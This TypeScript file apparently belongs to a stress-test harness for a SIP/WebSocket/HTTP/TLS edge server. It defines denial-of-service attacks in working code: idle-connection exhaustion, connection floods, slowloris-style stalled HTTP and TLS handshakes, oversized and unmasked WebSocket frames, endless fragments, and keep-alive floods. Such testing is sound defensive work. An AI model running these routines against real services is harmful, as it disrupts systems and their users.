import type { Socket } from 'node:net';
import { ports, inTurn, type Attack } from './attack';
import { crowd, dial, giveUp } from './crowd';
import { pace } from './pace';

/**
 * More than the edge has room for (4096), from many sources, and more than it has for one. Some of the many stand in the
 * attacker's eyes alone: their last ACK was dropped when the edge had too many to accept.
 */
const many = 6000;
const manyOfOne = 400;

/** Connections that are opened and say nothing. */
function idle(from: Attack['from'], port: number, size: number): Attack {
  return { from, run: (target) => crowd(target, { port, size, perSecond: 2000 }) };
}

/** Connections that are opened and closed at once. */
function flood(port: number): Attack {
  return {
    from: 'strangers',
    run: async (target) => {
      const source = inTurn(target.sources);
      await pace(target, 2000, () => {
        const socket = dial(target, port, source());
        socket.on('connect', () => giveUp(socket));
      });
    },
  };
}

/** Connections that begin with these bytes, then wait for what comes of it. */
function saying(from: Attack['from'], port: number, size: number, perSecond: number, bytes: () => Buffer): Attack {
  const opened = (socket: Socket) => socket.write(bytes());
  return { from, run: (target) => crowd(target, { port, size, perSecond, opened }) };
}

/** Length 65535 and all that it announces. */
const bigFrame = Buffer.alloc(2 + 0xffff, 0xff);

/** The head of a TLS record with a ClientHello, of which the rest does not come. */
const stalledHello = Buffer.concat([Buffer.from('1603010200010001fc0303', 'hex'), Buffer.alloc(32, 7)]);

const request = Buffer.from('GET / HTTP/1.1\r\nHost: edge.example.net\r\nUser-Agent: probe\r\nAccept: */*\r\n\r\n');

/** What a shared port cannot tell yet, and what it can: half of a request that may be of SIP or HTTP, and of one of HTTP. */
const halfOpening = Buffer.from('OPTIONS ');
const halfHead = Buffer.from('GET /phone/ HTTP/1.1\r\nHost: edge.example.net\r\nX-Slow: ');

const upgrade = Buffer.from(
  [
    'GET / HTTP/1.1',
    'Host: edge.example.net',
    'Upgrade: websocket',
    'Connection: Upgrade',
    'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
    'Sec-WebSocket-Version: 13',
    'Sec-WebSocket-Protocol: sip',
    '\r\n',
  ].join('\r\n'),
);

/** Frames of WebSocket (RFC 6455 §5.2): one without a mask, and the beginning of a message in fragments of a byte. */
const unmasked = Buffer.from('810452454749', 'hex');
const fragment = (first: boolean) => Buffer.from([first ? 0x01 : 0x00, 0x81, 0, 0, 0, 0, 0x41]);

/** Keep-alives (RFC 5626 §4.4.1), each in a frame of its own: of few bytes much work. */
const keepAlives = Buffer.concat(new Array<Buffer>(12_000).fill(Buffer.from('8184000000000d0a0d0a', 'hex')));

/** WebSockets with a message that does not end. */
const fragments: Attack = {
  from: 'strangers',
  run: (target) =>
    crowd(target, {
      ...{ port: ports.media, size: 100, perSecond: 100 },
      opened: (socket) => {
        socket.write(Buffer.concat([upgrade, fragment(true)]));
        const more = setInterval(() => socket.write(Buffer.concat(new Array<Buffer>(50).fill(fragment(false)))), 10);
        socket.on('close', () => clearInterval(more));
      },
    }),
};

export const connectionAttacks = {
  'idle-80': idle('strangers', ports.media, many),
  'idle-80-nat': idle('ue', ports.media, manyOfOne),
  'idle-sip': idle('strangers', ports.sip, many),
  'idle-sip-nat': idle('ue', ports.sip, manyOfOne),
  'flood-80': flood(ports.media),
  'flood-sip': flood(ports.sip),
  'big-frames': saying('strangers', ports.media, 200, 300, () => bigFrame),
  http: saying('strangers', ports.media, 500, 1000, () => request),
  'undecided-80': saying('strangers', ports.media, many, 2000, () => halfOpening),
  'http-stalls': saying('strangers', ports.media, many, 2000, () => halfHead),
  'tls-stalls-80': saying('strangers', ports.media, many, 2000, () => stalledHello),
  'websocket-unmasked': saying('strangers', ports.media, 500, 1000, () => Buffer.concat([upgrade, unmasked])),
  'websocket-fragments': fragments,
  'websocket-keep-alives': saying('strangers', ports.media, 100, 100, () => Buffer.concat([upgrade, keepAlives])),
  'tls-stalls': saying('strangers', ports.tls, many, 2000, () => stalledHello),
} satisfies Record<string, Attack>;
